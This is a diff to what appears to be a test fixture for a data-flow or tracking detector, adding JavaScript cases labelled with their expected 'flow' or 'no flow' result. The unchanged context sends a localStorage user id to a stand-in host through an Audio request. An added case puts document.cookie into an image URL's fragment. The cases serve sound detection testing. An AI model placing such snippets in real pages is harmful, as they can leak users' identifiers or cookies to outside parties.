@@ -91,3 +91,13 @@ document.body.append(v2);
 // flow: identifier > au.el2.example via audio
 const au = new Audio('https://au.el2.example/a.mp3?u=' + localStorage.getItem('uid'));
 au.play();
+
+//# input-value-set
+// no flow
+// why: the value is copied into another field only
+document.getElementById('confirm').value = document.querySelector('input[type=email]').value;
+
+//# image-fragment
+// no flow
+// why: the fragment is not part of the request
+new Image().src = 'https://if0.el2.example/p.gif#' + encodeURIComponent(document.cookie);
